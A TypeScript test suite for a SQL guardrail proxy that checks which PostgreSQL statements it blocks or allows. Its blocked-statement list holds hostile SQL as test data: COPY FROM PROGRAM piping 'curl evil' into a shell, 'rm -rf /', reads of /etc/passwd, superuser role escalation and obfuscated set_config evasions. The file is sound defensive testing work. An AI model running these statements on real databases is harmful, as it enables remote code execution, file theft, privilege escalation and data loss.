import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { classify, type StatementReport } from '../../../../proxy/guardrails/sql/classify.ts';
import { SqlGuardError } from '../../../../proxy/guardrails/sql/errors.ts';
import { type CheckContext, compileSqlGuardrails } from '../../../../proxy/guardrails/sql/guardrails.ts';
import { DEFAULT_REVIEW_TIMEOUT_MS } from '../../../../proxy/guardrails/sql/rules.ts';

const ctx: CheckContext = { level: 'write', groups: ['eng'] };

/** [sql, default rule that must block it] */
const blocked: [string, string][] = [
  ['DROP DATABASE prod', 'drop-database'],
  ['drop database if exists "prod"', 'drop-database'],
  ['DROP TABLE customers', 'drop-table'],
  ['DrOp TaBlE "customers"', 'drop-table'],
  ['/* harmless */ DROP /* really */ TABLE public.customers -- bye', 'drop-table'],
  ['DROP\n\tTABLE\n  customers\n;', 'drop-table'],
  ['SELECT 1; DROP TABLE t', 'drop-table'],
  ['SELECT 1;\n-- comment ; SELECT 2\nDROP TABLE t', 'drop-table'],
  ['DROP SCHEMA app CASCADE', 'drop-schema'],
  ['TRUNCATE t', 'truncate'],
  ['truncate table public.t, u restart identity', 'truncate'],
  ['DELETE FROM t', 'delete-without-where'],
  ['DELETE FROM t WHERE true', 'delete-without-where'],
  ['DELETE FROM t WHERE 1 = 1', 'delete-without-where'],
  ['UPDATE t SET a = 1', 'update-without-where'],
  ['update "T" set a = 1 where 1=1', 'update-without-where'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'delete-without-where'],
  ['WITH a AS (SELECT 1), b AS (UPDATE t SET x = 2 RETURNING 1) SELECT * FROM a, b', 'update-without-where'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'delete-without-where'],
  ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t', 'delete-without-where'],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 'delete-without-where'],
  ['ALTER SYSTEM SET work_mem = 1', 'alter-system'],
  ["COPY t TO PROGRAM 'x'", 'copy-program'],
  ["COPY t FROM PROGRAM 'curl evil | sh'", 'copy-program'],
  ['copy (select 1) to program $$rm -rf /$$', 'copy-program'],
  ["COPY t TO '/tmp/x'", 'copy-server-file'],
  ["COPY t FROM '/etc/passwd'", 'copy-server-file'],
  ['CREATE ROLE x SUPERUSER', 'role-management'],
  ['CREATE USER x', 'role-management'],
  ['ALTER USER me WITH SUPERUSER', 'role-management'],
  ['ALTER ROLE me SET standard_conforming_strings = off', 'role-management'],
  ['DROP ROLE x', 'role-management'],
  ['DROP GROUP x', 'role-management'],
  ['ALTER ROLE a RENAME TO b', 'role-management'],
  ['GRANT ALL ON t TO public', 'privilege-change'],
  ['GRANT pg_read_server_files TO me', 'privilege-change'],
  ['REVOKE SELECT ON t FROM x', 'privilege-change'],
  ['ALTER TABLE t OWNER TO x', 'privilege-change'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x', 'persistent-object'],
  ['SET ROLE postgres', 'session-identity'],
  ["SET LOCAL ROLE 'postgres'", 'session-identity'],
  ['SET SESSION AUTHORIZATION postgres', 'session-identity'],
  ["SELECT set_config('role', 'postgres', false)", 'session-identity'],
  ['SELECT set_config(current_user, $1, false)', 'session-identity'],
  ['SET standard_conforming_strings = off', 'unsafe-setting'],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'unsafe-setting'],
  ["SET NAMES 'SJIS'", 'unsafe-setting'],
  ['SET client_encoding TO big5', 'unsafe-setting'],
  ['SELECT pg_terminate_backend(123)', 'dangerous-function'],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'dangerous-function'],
  ["SELECT pg_read_file('/etc/passwd')", 'dangerous-function'],
  ["SELECT PG_READ_FILE('/etc/passwd')", 'dangerous-function'],
  ['SELECT "pg_read_file"(\'/etc/passwd\')', 'dangerous-function'],
  ['SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')', 'dangerous-function'],
  ["SELECT pg_catalog.pg_read_binary_file('x')", 'dangerous-function'],
  ["SELECT * FROM pg_ls_dir('.')", 'dangerous-function'],
  ["SELECT lo_import('/etc/passwd')", 'dangerous-function'],
  ["SELECT lo_export(1, '/tmp/x')", 'dangerous-function'],
  ["SELECT dblink_exec('host=x', 'DROP TABLE t')", 'dangerous-function'],
  ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", 'dangerous-function'],
  ['SELECT pg_reload_conf()', 'dangerous-function'],
  [
    'SELECT * FROM t WHERE id IN (SELECT x FROM (SELECT pg_terminate_backend(1) AS x) s)',
    'dangerous-function',
  ],
  ['SELECT * FROM t WHERE pg_cancel_backend(id)', 'dangerous-function'],
  ['CREATE TABLE x (a text DEFAULT pg_read_file($$/etc/passwd$$))', 'dangerous-function'],
  ['CALL pg_catalog.pg_reload_conf()', 'dangerous-function'],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'drop-table'],
  ["DO $x$ BEGIN PERFORM pg_read_file('x'); END $x$", 'dangerous-function'],
  ['DO $$ BEGIN DELETE FROM t; END $$', 'delete-without-where'],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$", 'dynamic-sql'],
  ["DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END $$", 'dynamic-sql'],
  [
    "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE format('SELECT %s', 1) LOOP END LOOP; END $$",
    'dynamic-sql',
  ],
  ["DO LANGUAGE plpgsql 'BEGIN TRUNCATE t; END'", 'truncate'],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE t $$', 'drop-table'],
  ["CREATE OR REPLACE FUNCTION f() RETURNS void AS 'DELETE FROM t' LANGUAGE sql", 'delete-without-where'],
  ['CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; END $$', 'truncate'],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
    'delete-without-where',
  ],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", 'opaque-code'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", 'opaque-code'],
  ["LOAD 'plugin'", 'load-library'],
  ['EXECUTE never_prepared', 'unknown-prepared'],
];

/** Statements real clients send that must pass. */
const allowed: string[] = [
  'SELECT 1',
  'select * from customers where id = 42',
  "INSERT INTO t (a, b) VALUES (1, 'x') RETURNING id",
  'UPDATE t SET a = 1 WHERE id = 1',
  'DELETE FROM t WHERE id = 1',
  'DELETE FROM t WHERE id IN (SELECT id FROM u)',
  'UPDATE t SET a = 1 WHERE CURRENT OF c',
  'BEGIN',
  'COMMIT',
  'ROLLBACK',
  'SET search_path = app, public',
  'SET ROLE NONE',
  'RESET ROLE',
  'SHOW work_mem',
  'EXPLAIN DELETE FROM t',
  'PREPARE q(int) AS SELECT * FROM t WHERE id = $1',
  'CREATE TABLE t2 (id int primary key, v text)',
  'CREATE INDEX ON t (a)',
  "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'",
  'CREATE FUNCTION g() RETURNS int LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE id = 2; RETURN 1; END $$',
  "DO $$ BEGIN RAISE NOTICE 'hi'; END $$",
  'SELECT "PG_READ_FILE"(\'x\')',
  'SELECT "pg_catalog"."PG_READ_FILE"(\'x\')',
  "SELECT 'DROP TABLE t'",
  "SELECT $$ pg_read_file('x') $$",
  // psql 15 \d and \dt
  `SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;`,
  `SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;`,
  `SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;`,
  // pgbench (built-in TPC-B-like script)
  'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;',
  'SELECT abalance FROM pgbench_accounts WHERE aid = $1;',
  'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP);',
  'END;',
  // pg_dump
  'SET DATESTYLE = ISO; SET INTERVALSTYLE = POSTGRES; SET extra_float_digits TO 3; SET synchronize_seqscans TO off',
  'SET statement_timeout = 0; SET lock_timeout = 0; SET row_security = off',
  'BEGIN; SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY',
  "SELECT pg_catalog.set_config('search_path', '', false);",
  'SET standard_conforming_strings = on',
  "SET client_encoding = 'UTF8'",
  'COPY public.t (a, b) TO stdout;',
  'COPY t FROM STDIN',
  '',
  '   ',
];

describe('default rules block', () => {
  const guard = compileSqlGuardrails({});
  for (const [sql, rule] of blocked) {
    it(`${rule}: ${JSON.stringify(sql)}`, () => {
      const verdict = guard.check(sql, ctx);
      assert.equal(verdict.action, 'block');
      assert.equal(verdict.rule, rule);
      assert.ok(verdict.message);
    });
  }
});

describe('ordinary statements pass', () => {
  const guard = compileSqlGuardrails({});
  for (const sql of allowed) {
    it(JSON.stringify(sql.slice(0, 60)), () => {
      const verdict = guard.check(sql, ctx);
      assert.equal(verdict.action, 'allow', `${verdict.rule}: ${verdict.message}`);
    });
  }
});

/** [sql, effect set_config brings: session-identity, unsafe-setting or session] */
const setConfigCases: [string, string][] = [
  ["SELECT set_config('search_path', '', false)", 'session'],
  ["SELECT pg_catalog.set_config('search_path', '', false)", 'session'],
  ['SELECT "pg_catalog"."set_config"(\'statement_timeout\', \'0\', true)', 'session'],
  ["SELECT SET_CONFIG('application_name', 'x', false)", 'session'],
  ["SELECT set_config('myapp.tenant', '42', false)", 'session'],
  ["SELECT set_config('role', 'postgres', false)", 'session-identity'],
  ["SELECT set_config('ROLE', 'postgres', false)", 'session-identity'],
  ["SELECT set_config('Session_Authorization', 'postgres', false)", 'session-identity'],
  ["SELECT pg_catalog.set_config(E'rol\\x65', 'postgres', false)", 'session-identity'],
  ["SELECT set_config(U&'r\\006fle', 'postgres', false)", 'session-identity'],
  ["SELECT set_config($$role$$, 'postgres', false)", 'session-identity'],
  ["SELECT set_config('ro' || 'le', 'postgres', false)", 'session-identity'],
  ["SELECT set_config('role'::text, 'postgres', false)", 'session-identity'],
  ['SELECT set_config($1, $2, false)', 'session-identity'],
  ["SELECT length(set_config('role', 'postgres', false)) > 0", 'session-identity'],
  ["SELECT 1 WHERE EXISTS (SELECT set_config('role', 'x', false))", 'session-identity'],
  ["SELECT coalesce(set_config('search_path', '', false), '')", 'session'],
  ["SELECT set_config('Standard_Conforming_Strings', 'off', false)", 'unsafe-setting'],
  ["SELECT set_config('CLIENT_ENCODING', 'sjis', false)", 'unsafe-setting'],
  // pg_dump 15.8+: the name comes from pg_settings, pinned by the WHERE clause.
  [
    "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
    'session',
  ],
  [
    "SELECT set_config(pg_settings.name, '', false) FROM pg_catalog.pg_settings WHERE 'search_path' = name AND true",
    'session',
  ],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'ROLE'", 'session-identity'],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'search_path'", 'session-identity'],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'search_path' OR true",
    'session-identity',
  ],
  ["SELECT set_config(name, 'x', false) FROM pg_settings s WHERE name = 'search_path'", 'session-identity'],
  ["SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'search_path'", 'session-identity'],
  [
    "SELECT set_config(name, 'x', false) FROM other.pg_settings WHERE name = 'search_path'",
    'session-identity',
  ],
  ["SELECT set_config(name, 'x', false) FROM t WHERE name = 'search_path'", 'session-identity'],
  [
    "SELECT (SELECT set_config(name, 'x', false) FROM t) FROM pg_settings WHERE name = 'search_path'",
    'session-identity',
  ],
  ['SET "ROLE" = \'postgres\'', 'session-identity'],
  ['SET "Session_Authorization" = \'postgres\'', 'session-identity'],
];

describe('set_config is classified by its setting name', () => {
  const guard = compileSqlGuardrails({});
  for (const [sql, effect] of setConfigCases) {
    it(`${effect}: ${sql}`, () => {
      const effects = classify(sql)[0]!.effects;
      for (const e of ['session-identity', 'unsafe-setting', 'session'])
        assert.equal(effects.includes(e as never), e === effect, `${e} in ${effects.join(',')}`);
      const verdict = guard.check(sql, ctx);
      const rule = { 'session-identity': 'session-identity', 'unsafe-setting': 'unsafe-setting' }[effect];
      assert.equal(verdict.action, rule ? 'block' : 'allow');
      if (rule) assert.equal(verdict.rule, rule);
    });
  }

  it('does not reuse a cached verdict across setting names of the same shape', () => {
    const cached = compileSqlGuardrails({});
    const shape = (name: string) =>
      `SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = '${name}'`;
    assert.equal(cached.check(shape('search_path'), ctx).action, 'allow');
    assert.equal(cached.check(shape('role'), ctx).rule, 'session-identity');
  });
});

describe('unparseable text', () => {
  const garbage = [
    'SELEC 1',
    'DROP TABLE',
    "SELECT 'unterminated",
    'SELECT 1\0; DROP TABLE t',
    ')))',
    'DO $$ BEGIN garbage END $$',
    `SELECT ${'abs('.repeat(3000)}1${')'.repeat(3000)}`,
  ];
  for (const sql of garbage) {
    it(`blocks ${JSON.stringify(sql.slice(0, 40))}`, () => {
      const verdict = compileSqlGuardrails({}).check(sql, ctx);
      assert.equal(verdict.action, 'block');
      assert.equal(verdict.rule, 'unparseable');
    });
  }
  it('allows it when the target says so', () => {
    const verdict = compileSqlGuardrails({ unparseable: 'allow' }).check('SELEC 1', ctx);
    assert.equal(verdict.action, 'allow');
  });
});

describe('classify', () => {
  it('reports kind, effects, relations and functions per statement', () => {
    const [first, second] = classify(
      'SELECT now() FROM "Orders" o JOIN app.items i ON true; DELETE FROM t WHERE id = 1',
    );
    assert.equal(first!.kind, 'select');
    assert.deepEqual(first!.effects, ['read']);
    assert.deepEqual(first!.relations, ['Orders', 'app.items']);
    assert.deepEqual(first!.functions, ['now']);
    assert.equal(second!.kind, 'delete');
    assert.equal(second!.primaryEffect, 'write');
  });
  it('classifies by the most consequential effect', () => {
    const [report] = classify('SELECT * FROM t, LATERAL (SELECT pg_read_file($$x$$)) f');
    assert.equal(report!.primaryEffect, 'dangerous-function');
  });
  it('throws ERR_SQLGUARD_UNPARSEABLE on garbage', () => {
    assert.throws(
      () => classify('garbage here'),
      (e: unknown) => e instanceof SqlGuardError && e.code === 'ERR_SQLGUARD_UNPARSEABLE',
    );
  });
});

describe('prepared statements', () => {
  const guard = compileSqlGuardrails({});
  it('PREPARE reports what EXECUTE will run', () => {
    const verdict = guard.check('PREPARE q(int) AS UPDATE t SET a = 1 WHERE id = $1', ctx);
    assert.equal(verdict.action, 'allow');
    assert.equal(verdict.statements[0]!.report.prepares?.name, 'q');
  });
  it('EXECUTE inherits the prepared statement effects from the session map', () => {
    const prepared = new Map<string, StatementReport>([
      ['p', classify('DELETE FROM t')[0]!],
      ['ok', classify('SELECT 1')[0]!],
    ]);
    assert.equal(guard.check('EXECUTE p', { ...ctx, prepared }).rule, 'delete-without-where');
    assert.equal(guard.check('EXECUTE ok', { ...ctx, prepared }).action, 'allow');
    assert.equal(guard.check('EXECUTE other', { ...ctx, prepared }).rule, 'unknown-prepared');
  });
  it('EXECUTE follows the session map as it changes (no verdict kept per session)', () => {
    const session = { ...ctx, prepared: new Map<string, StatementReport>() };
    assert.equal(guard.check('EXECUTE later', session).rule, 'unknown-prepared');
    session.prepared.set('later', classify('SELECT 1')[0]!);
    assert.equal(guard.check('EXECUTE later', session).action, 'allow');
    session.prepared.set('later', classify('DELETE FROM t')[0]!);
    assert.equal(guard.check('EXECUTE later', session).rule, 'delete-without-where');
  });
});

describe('verdicts kept per session', () => {
  const guard = compileSqlGuardrails({
    rules: [{ name: 'no-salaries', match: { relations: ['salaries'] }, action: 'block', levels: ['read'] }],
  });
  const cases: [string, CheckContext, string][] = [
    ['read session', { level: 'read', groups: [] }, 'block'],
    ['write session', { level: 'write', groups: [] }, 'allow'],
  ];
  for (const [label, session, action] of cases) {
    it(`the same statement, checked again and with other literals, for a ${label}: ${action}`, () => {
      for (const sql of ['SELECT * FROM salaries WHERE id = 1', 'SELECT * FROM salaries WHERE id = 2']) {
        assert.equal(guard.check(sql, session).action, action);
        assert.equal(guard.check(sql, session).action, action);
      }
    });
  }
});

describe('configuration', () => {
  it('custom rules match relations, functions, kinds and effects per level and group', () => {
    const guard = compileSqlGuardrails({
      rules: [
        {
          name: 'no-salaries',
          match: { relations: ['payroll.salaries'] },
          action: 'block',
          levels: ['read'],
        },
        { name: 'review-sleep', match: { functions: ['pg_sleep'] }, action: 'review', message: 'slow' },
        { name: 'no-ddl-for-eng', match: { kinds: ['ddl'] }, action: 'block', groups: ['eng'] },
        { name: 'review-writes', match: { effects: ['write'] }, action: 'review' },
      ],
    });
    const read = { level: 'read', groups: [] };
    assert.equal(guard.check('SELECT * FROM payroll.salaries', read).rule, 'no-salaries');
    assert.equal(guard.check('SELECT * FROM payroll.salaries', ctx).action, 'allow');
    const sleep = guard.check('SELECT pg_catalog.pg_sleep(1)', read);
    assert.deepEqual([sleep.action, sleep.rule, sleep.message], ['review', 'review-sleep', 'slow']);
    assert.equal(guard.check('CREATE TABLE x (a int)', ctx).rule, 'no-ddl-for-eng');
    assert.equal(guard.check('CREATE TABLE x (a int)', read).action, 'allow');
    assert.equal(guard.check('INSERT INTO t VALUES (1)', read).action, 'review');
    // block beats review whatever the order of statements
    assert.equal(guard.check('INSERT INTO t VALUES (1); DROP TABLE t', read).action, 'block');
  });
  it('gives review verdicts the rule timeout, 5 minutes by default', () => {
    const guard = compileSqlGuardrails({
      rules: [
        { name: 'review-deletes', match: { kinds: ['delete'] }, action: 'review', timeout: '90s' },
        { name: 'review-updates', match: { kinds: ['update'] }, action: 'review' },
      ],
    });
    const deletes = guard.check('DELETE FROM t WHERE id = 1', ctx);
    assert.equal(deletes.action, 'review');
    assert.equal(deletes.timeoutMs, 90_000);
    assert.equal(guard.check('UPDATE t SET a = 1 WHERE id = 1', ctx).timeoutMs, DEFAULT_REVIEW_TIMEOUT_MS);
    assert.equal(DEFAULT_REVIEW_TIMEOUT_MS, 300_000);
    assert.equal(guard.check('SELECT 1', ctx).timeoutMs, undefined);
  });
  it('disables default rules, everywhere or per level and group', () => {
    const guard = compileSqlGuardrails({
      disable: ['truncate', { rule: 'drop-table', levels: ['admin'], groups: ['dba'] }],
    });
    assert.equal(guard.check('TRUNCATE t', ctx).action, 'allow');
    assert.equal(guard.check('DROP TABLE t', ctx).rule, 'drop-table');
    assert.equal(guard.check('DROP TABLE t', { level: 'admin', groups: ['dba'] }).action, 'allow');
    assert.equal(guard.check('DROP TABLE t', { level: 'admin', groups: ['eng'] }).action, 'block');
  });
  const bad: [unknown, string][] = [
    [{ unparseable: 'maybe' }, 'guardrails.unparseable'],
    [{ disable: ['no-such-rule'] }, 'guardrails.disable.0'],
    [{ rules: [{ name: 'x', match: {}, action: 'block' }] }, 'guardrails.rules.0.match'],
    [
      { rules: [{ name: 'x', match: { effects: ['explode'] }, action: 'block' }] },
      'guardrails.rules.0.match.effects.0',
    ],
    [
      { rules: [{ name: 'Bad Name', match: { kinds: ['ddl'] }, action: 'block' }] },
      'guardrails.rules.0.name',
    ],
    [
      { rules: [{ name: 'truncate', match: { kinds: ['ddl'] }, action: 'block' }] },
      'guardrails.rules.0.name',
    ],
    [{ rules: [{ name: 'x', match: { kinds: ['ddl'] }, action: 'deny' }] }, 'guardrails.rules.0.action'],
    [{ cacheSize: -1 }, 'guardrails.cacheSize'],
    [{ extra: true }, 'guardrails'],
    [
      { rules: [{ name: 'x', match: { kinds: ['delete'] }, action: 'review', timeout: 'soon' }] },
      'guardrails.rules.0.timeout',
    ],
    [
      { rules: [{ name: 'x', match: { kinds: ['delete'] }, action: 'block', timeout: '2m' }] },
      'guardrails.rules.0.timeout',
    ],
  ];
  for (const [config, path] of bad) {
    it(`refuses ${JSON.stringify(config)} at ${path}`, () => {
      assert.throws(
        () => compileSqlGuardrails(config),
        (e: unknown) =>
          e instanceof SqlGuardError &&
          e.code === 'ERR_SQLGUARD_CONFIG_INVALID' &&
          e.message.startsWith(path),
      );
    });
  }
});
